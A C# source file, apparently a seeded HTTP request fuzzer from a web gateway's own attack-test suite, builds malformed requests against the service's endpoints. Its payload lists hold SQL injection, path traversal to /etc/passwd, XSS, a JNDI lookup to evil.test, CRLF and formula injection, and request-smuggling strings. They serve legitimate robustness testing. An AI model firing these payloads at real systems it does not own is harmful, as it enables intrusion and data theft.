using System.Globalization;
using System.Text;

namespace SeoulMate.AttackTests;

/// <summary>A request as it is sent, with what has to be known to read its answer.</summary>
internal sealed record FuzzedRequest(byte[] Bytes, bool IsHead, bool EndsThere, string Summary);

/// <summary>
/// Makes malformed requests: of each door, with its method, path, query, headers or body wrong in some way. The same seed and number
/// make the same request.
/// </summary>
/// <param name="doors">The ways in.</param>
/// <param name="host">What the gateway is called.</param>
/// <param name="callers">Header lines of callers: tokens, cookies, none.</param>
/// <param name="formTokens">Antiforgery tokens that go with the cookies, so that forms get as far as their handlers.</param>
internal sealed class RequestFuzzer(Doors doors, string host, IReadOnlyList<string> callers, IReadOnlyList<string> formTokens)
{
    private static readonly string[] Methods = ["GET", "HEAD", "POST", "PUT", "PATCH", "DELETE", "OPTIONS", "TRACE", "CONNECT", "PROPFIND", "gEt", "X", new string('M', 300)];

    /// <summary>What somebody might put anywhere: for databases, patterns, paths, templates, logs, shells, numbers and alphabets.</summary>
    internal static readonly string[] Nasty =
    [
        "", " ", "me", "null", "true", "0", "-1", "1e999", "9223372036854775808", "0x10", "NaN", "00000000-0000-0000-0000-000000000000", "signal-2016",
        "'", "' or '1'='1", "'; drop table accounts;--", "\" or \"\"=\"", "%", "_", "%%%%%%%%", "\\", "$.a[?(@.b)]", "$where", "{\"$gt\":\"\"}", "(a+)+$", "[", "(?<x", "*",
        "../../etc/passwd", "..\\..\\x", "%2e%2e%2f", "%00", "%c0%af", "/", "//evil.test", "\\\\evil.test", "https://evil.test", "javascript:alert(1)", "data:text/html,x",
        "<script>alert(1)</script>", "\"><img src=x onerror=alert(1)>", "{{7*7}}", "${jndi:ldap://evil.test/a}", "#{7*7}", "%0d%0aSet-Cookie:%20a=b", "%1b%5b31m", "%0a2026-01-01 fail: forged",
        "=cmd|' /C calc'!A0", "@SUM(1)", "한국 드라마", "ﷺ", "\u202e", "Ⅷ", "İ", "ß", "ﬃ", "😀", "a\u0301", "%ff%fe", "%ed%a0%80", "%ef%bf%be", "%ef%bf%bf", "%u0041",
        new string('a', 300), new string('9', 400), new string('(', 200), "2026-13-45T99:99:99Z", "0001-01-01T00:00:00Z", "9999-12-31T23:59:59.9999999+14:00", "genre:", ":::", "a:b:c:d",
    ];

    private static readonly string[] Headers =
    [
        "Accept: application/x-ndjson", "Accept: */*;q=nan", "Accept: text/html", "Accept: ,,,;;;", "Accept-Language: ko", "Accept-Language: *;q=9", "Accept-Language: en-US-x-\u00e4", "Accept-Encoding: gzip, br",
        "Accept-Encoding: identity;q=0", "If-Match: \"1\"", "If-Match: not a tag", "If-None-Match: *", "If-None-Match: W/\"", "If-Modified-Since: yesterday", "Range: bytes=0-0,-1,5-2", "Range: pages=1-2", "Expect: 100-continue",
        "Expect: the unexpected", "Content-Encoding: gzip", "Content-Encoding: br, gzip", "Content-Length: 5", "Cookie: toast=e30", "Cookie: toast=bnVsbA", "Cookie: toast=eyJXaGF0IjpudWxsfQ", "Cookie: toast=!!!", "Cookie: culture=ko; theme=contrast", "Cookie: culture=zz; theme=\"><b>",
        "Cookie: ;;;=;=;a", "Cookie: .AspNetCore.Antiforgery.x=CfDJ8", "Cookie: seoulmate=CfDJ8AAAA", "X-Forwarded-For: 127.0.0.1", "X-Forwarded-Host: evil.test", "X-Forwarded-Proto: https", "X-Forwarded-Prefix: //evil.test", "Forwarded: for=_x;host=evil.test", "X-User-Id: 00000000-0000-0000-0000-000000000001",
        "X-Original-URL: /api/v1/insights/overview", "X-Rewrite-URL: /api/v1/insights/overview", "X-HTTP-Method-Override: DELETE", "X-HTTP-Method: DELETE", "Upgrade: websocket", "Upgrade: h2c", "Connection: Upgrade, HTTP2-Settings", "TE: trailers", "Origin: https://evil.test", "Origin: null", "Sec-Fetch-Site: cross-site", "Sec-Fetch-Site: same-origin",
        "Referer: javascript:alert(1)", "User-Agent: \u001b[31mred", "Traceparent: 00-00000000000000000000000000000000-0000000000000000-00", "Traceparent: zz", "Baggage: =,=,=", "grpc-timeout: 1H", "Content-Type: application/grpc",
    ];

    private static readonly string[] ContentTypes =
    [
        "application/json", "application/json; charset=utf-16", "application/json; charset=nonsense", "application/xml", "text/plain", "application/x-www-form-urlencoded", "multipart/form-data", "multipart/form-data; boundary=x",
        "application/json;;;", "application/grpc", "*/*", "nonsense", "application/problem+json", "text/json", "application/vnd.masstransit+json",
    ];

    /// <summary>Things that are no request by any grammar, and things that two servers might read differently.</summary>
    private static readonly string[] Malformed =
    [
        "GET / HTTP/1.1\nHost: {host}\n\n", "GET /api/v1/home HTTP/1.1\r\nHost: {host}\r\nA : b\r\n\r\n", "GET / HTTP/1.1\r\nHost: {host}\r\nA: b\r\n c\r\n\r\n", "GET / HTTP/1.1\r\n\r\n", "GET / HTTP/1.1\r\nHost: {host}\r\nHost: evil.test\r\n\r\n",
        "POST /api/v1/interactions HTTP/1.1\r\nHost: {host}\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET /api/v1/insights/overview HTTP/1.1\r\n\r\n", "POST /api/v1/interactions HTTP/1.1\r\nHost: {host}\r\nContent-Length: 3\r\nContent-Length: 9\r\n\r\nabc",
        "POST /api/v1/interactions HTTP/1.1\r\nHost: {host}\r\nTransfer-Encoding: xchunked\r\n\r\n", "POST /api/v1/interactions HTTP/1.1\r\nHost: {host}\r\nTransfer-Encoding: chunked\r\n\r\nZZ\r\n", "POST /api/v1/interactions HTTP/1.1\r\nHost: {host}\r\nTransfer-Encoding: chunked\r\n\r\nffffffffffffffff\r\n",
        "POST /api/v1/account/login HTTP/1.1\r\nHost: {host}\r\nContent-Type: application/json\r\nContent-Length: 900\r\n\r\n{\"email\":", "GET http://evil.test/ HTTP/1.1\r\nHost: {host}\r\n\r\n", "GET http://{host}/api/v1/insights/overview HTTP/1.1\r\nHost: {host}\r\n\r\n", "GET * HTTP/1.1\r\nHost: {host}\r\n\r\n", "OPTIONS * HTTP/1.1\r\nHost: {host}\r\n\r\n",
        "GET / HTTP/2.0\r\nHost: {host}\r\n\r\n", "GET / HTTP/0.9\r\n\r\n", "GET /\r\n", "GET  /  HTTP/1.1\r\nHost: {host}\r\n\r\n", "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n", "\u0000\u0001\u0002\u0003", "\r\n\r\n\r\n", "GET /\u0000 HTTP/1.1\r\nHost: {host}\r\n\r\n", "GET / HTTP/1.1\r\nHost: {host}\r\nA: \u0000\r\n\r\n",
        "GET / HTTP/1.1\r\nHost: {host}\r\n: empty\r\n\r\n", "GET / HTTP/1.1\r\nHost: evil.test\r\n\r\n", "GET / HTTP/1.1\r\nHost: a b\r\n\r\n", "GET /%zz HTTP/1.1\r\nHost: {host}\r\n\r\n", "GET /\u00e4\u00f6 HTTP/1.1\r\nHost: {host}\r\n\r\n", "POST / HTTP/1.1\r\nHost: {host}\r\nContent-Length: -1\r\n\r\n",
        "POST / HTTP/1.1\r\nHost: {host}\r\nContent-Length: 99999999999999999999\r\n\r\n", "GET / HTTP/1.1\r\nHost: {host}\r\nTransfer-Encoding: identity\r\n\r\n", "\u0016\u0003\u0001\u0002\u0000\u0001\u0000\u0001",
    ];

    private static readonly string DeepJson = new string('[', 10_000) + new string(']', 10_000);

    internal FuzzedRequest Make(int number)
    {
        var chance = new Random((TheSystem.Seed * 31) + number);

        return chance.Next(12) == 0 ? MakeMalformed(chance) : MakeOf(doors.All[number % doors.All.Count], chance);
    }

    private FuzzedRequest MakeMalformed(Random chance)
    {
        var text = Pick(Malformed, chance).Replace("{host}", host, StringComparison.Ordinal);
        var bytes = Encoding.Latin1.GetBytes(text);

        // Half of them with one more byte turned into another.
        if (chance.Next(2) == 0)
        {
            bytes[chance.Next(bytes.Length)] = (byte)chance.Next(256);
        }

        return new(bytes, false, EndsThere: true, text);
    }

    private FuzzedRequest MakeOf(Door door, Random chance)
    {
        var method = chance.Next(5) == 0 ? Pick(Methods, chance) : door.Method;
        var path = PathOf(door, chance) + QueryOf(door, chance);
        var head = new StringBuilder($"{method} {path} HTTP/1.1\r\nHost: {host}\r\n");
        var caller = Pick(EndsSession(door) ? [string.Empty] : callers, chance);
        head.Append(caller);

        if (caller.StartsWith("Cookie", StringComparison.Ordinal))
        {
            head.Append("Sec-Fetch-Site: same-origin\r\n");
        }

        for (var more = chance.Next(4); more > 0; more--)
        {
            var header = Pick(Headers, chance);

            // A length that is wrong makes the rest of the connection unreadable: those are among the malformed ones.
            head.Append(header.StartsWith("Content-Length", StringComparison.Ordinal) ? "X-Nothing: 1" : header).Append("\r\n");
        }

        if (chance.Next(100) == 0)
        {
            head.Append(CultureInfo.InvariantCulture, $"X-Long: {new string('x', 40_000)}\r\n");
        }

        byte[] body = door.BodyType is null && chance.Next(4) > 0 ? [] : BodyOf(door, chance);

        if (body.Length > 0)
        {
            head.Append(CultureInfo.InvariantCulture, $"Content-Type: {(chance.Next(6) == 0 ? Pick(ContentTypes, chance) : door.BodyType ?? "application/json")}\r\n");
        }

        head.Append(CultureInfo.InvariantCulture, $"Content-Length: {body.Length}\r\n\r\n");

        return new([.. Encoding.UTF8.GetBytes(head.ToString()), .. body], method == "HEAD", EndsThere: method == "CONNECT", head.Append(Encoding.UTF8.GetString(body.AsSpan(0, Math.Min(400, body.Length)))).ToString());
    }

    /// <summary>Signed out, callers would be strangers everywhere from there on.</summary>
    private static bool EndsSession(Door door) => door.Path.EndsWith("/logout", StringComparison.Ordinal) || door.Path == "/sign-out";

    private static string PathOf(Door door, Random chance)
    {
        var parts = door.Path.Split('/').Select(part => part.StartsWith('{') ? Escape(Pick(Nasty, chance), chance) : part);
        var path = string.Join('/', parts);

        return chance.Next(6) switch
        {
            0 => chance.Next(10) switch
            {
                0 => $"/{path}",
                1 => $"{path}/",
                2 => path.Replace("/", "//", StringComparison.Ordinal),
                3 => $"{path}/../../../insights/overview",
                4 => $"{path}/%2e%2e/%2e%2e/internal/token",
                5 => path.Replace("/api/v1", "/api%2fv1", StringComparison.Ordinal),
                6 => path.ToUpperInvariant(),
                7 => $"{path};a=b",
                8 => $"{path}/{new string('p', 7_000)}",
                _ => $"{path}%00%0d%0a",
            },
            1 => $"{path}/{Escape(Pick(Nasty, chance), chance)}",
            _ => path,
        };
    }

    private static string QueryOf(Door door, Random chance)
    {
        var names = door.Query.Concat(["q", "limit", "cursor", "return", "id"]).ToArray();
        var pairs = Enumerable.Range(0, chance.Next(4)).Select(_ => $"{Pick(names, chance)}={Escape(Pick(Nasty, chance), chance)}").ToList();

        return pairs.Count == 0 ? string.Empty : $"?{string.Join('&', pairs)}";
    }

    private byte[] BodyOf(Door door, Random chance) => door.BodyType == "application/x-www-form-urlencoded"
        ? Encoding.UTF8.GetBytes(FormOf(chance))
        : chance.Next(16) switch
        {
            0 => Encoding.UTF8.GetBytes(DeepJson),
            1 => chance.Next(20) == 0 ? [.. "{\"email\":\""u8, .. Enumerable.Repeat((byte)'a', 1_000_001)] : "{}"u8.ToArray(),
            2 => [0x7b, 0x22, 0xff, 0xfe, 0x22, 0x3a, 0x31, 0x7d],
            3 => "{\"email\":\"\\ud800\",\"kind\":\"\\udc00\",\"query\":\"\\u0000\"}"u8.ToArray(),
            4 => [0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 3, 0xed, 0xc1, 1],
            5 => Encoding.Unicode.GetBytes("{\"a\":1}"),
            6 => Encoding.UTF8.GetBytes(Json(chance, 0)[..^1]),
            _ => Encoding.UTF8.GetBytes(door.IsArray || chance.Next(8) == 0 ? $"[{Json(chance, 0)},{Json(chance, 0)}]" : Json(chance, 0)),
        };

    private string FormOf(Random chance)
    {
        string[] names = ["act", "drama_id", "title", "stamp", "origin", "value", "episodes_seen", "reason", "scope", "days", "return", "interaction_id", "how", "facet", "name", "culture", "theme", "Email", "Password", "DisplayName", "Demo", "_handler", "seconds"];
        var fields = Enumerable.Range(0, chance.Next(1, 9)).Select(_ => (Name: Pick(names, chance), Value: Escape(Pick(Nasty, chance), chance))).ToList();

        if (chance.Next(4) > 0)
        {
            fields.Add(("__RequestVerificationToken", Uri.EscapeDataString(Pick(formTokens, chance))));
            fields.AddRange([("act", "watchlist_add"), ("stamp", Guid.Empty.ToString()), ("_handler", Pick(["sign-in", "register", "erase", "demo", "x"], chance))]);
        }

        return string.Join('&', fields.Select(field => $"{field.Name}={field.Value}"));
    }

    /// <summary>JSON with the names that bodies have and values of any sort.</summary>
    private string Json(Random chance, int depth)
    {
        var members = Enumerable.Range(0, chance.Next(1, 6)).Select(_ => $"\"{Pick(doors.Members, chance)}\":{Value(chance, depth)}");

        return $"{{{string.Join(',', members)}}}";
    }

    private string Value(Random chance, int depth) => chance.Next(12) switch
    {
        0 => "null",
        1 => "true",
        2 => "-0",
        3 => "1e999",
        4 => new string('9', 50),
        5 => "0.1",
        6 => depth < 3 ? Json(chance, depth + 1) : "{}",
        7 => depth < 3 ? $"[{Value(chance, depth + 1)},{Value(chance, depth + 1)}]" : "[]",
        8 => $"\"{Guid.CreateVersion7()}\"",
        9 => "\"click\"",
        10 => "\"2026-11-30T00:00:00Z\"",
        _ => System.Text.Json.JsonSerializer.Serialize(Pick(Nasty, chance)),
    };

    /// <summary>Mostly as an address would have it, sometimes as it is, apart from what ends the line.</summary>
    private static string Escape(string text, Random chance) =>
        chance.Next(3) > 0 ? Uri.EscapeDataString(text) : text.Replace(" ", "%20", StringComparison.Ordinal).Replace("#", "%23", StringComparison.Ordinal);

    private static string Pick(IReadOnlyList<string> some, Random chance) => some[chance.Next(some.Count)];
}
